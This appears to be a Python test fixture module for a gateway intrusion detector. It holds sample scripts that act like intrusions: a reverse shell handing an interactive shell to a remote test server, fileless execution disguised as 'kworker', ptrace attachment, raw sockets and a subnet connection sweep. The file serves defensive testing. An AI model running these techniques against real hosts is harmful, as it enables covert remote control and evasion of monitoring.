"""What programs on a gateway do, in Python: some of it is what intrusions do."""

from tests.gateway.talking import SERVER

#: Somebody far away who types to whoever calls.
FAR = "4545"
TYPIST = f"""
import socket, threading, time
def type(shell):
    time.sleep(2)
    shell.sendall(b"exit\\n")
    while shell.recv(4096): pass
server = socket.create_server(("", {FAR}))
print("listens", flush=True)
while True: threading.Thread(target=type, args=(server.accept()[0],)).start()
"""
#: Gives a shell to whoever is called, or to another process of this host.
TURNED_OVER = f"""
import os, socket, subprocess, sys
far = socket.create_connection(("{SERVER}", {FAR}))
subprocess.call([sys.argv[1], "--norc", "-i"], stdin=far, stdout=far, stderr=far)
"""
NEAR_SHELL = """
import socket, subprocess, sys
own, other = socket.socketpair()
own.sendall(b"sleep 1.5; exit\\n")
subprocess.call([sys.argv[1]], stdin=other)
"""
MEMFD = """
import os, sys
file = os.memfd_create("kworker")
os.write(file, open(sys.argv[1], "rb").read())
os.execve(file, ["kworker", *sys.argv[2:]], {})
"""
ATTACH = """
import ctypes, os, subprocess, sys
other = subprocess.Popen(["/usr/bin/sleep", "3"])
print(other.pid, ctypes.CDLL(None).ptrace(int(sys.argv[1], 0), other.pid, 0, 0))
os.kill(other.pid, 9)  # kill() would take the stop for the end
"""
TRACED = """
import ctypes, os
if os.fork() == 0:
    ctypes.CDLL(None).ptrace(0, 0, 0, 0)
    os._exit(0)
os.wait()
"""
RAW = "import socket, sys; socket.socket(*map(int, sys.argv[1:]))"
LISTEN = """
import socket, sys
server = socket.create_server((sys.argv[1], int(sys.argv[2])))
"""
SHELL = "import os, sys; os.system('true; exit')"
MANY = """
import errno, socket, sys, time
some = []
for number in range(int(sys.argv[2])):
    each = socket.socket()
    each.setblocking(False)
    each.connect_ex((f"{sys.argv[1]}.{100 + number % 150}", int(sys.argv[3])))
    some.append(each)
time.sleep(1)
"""
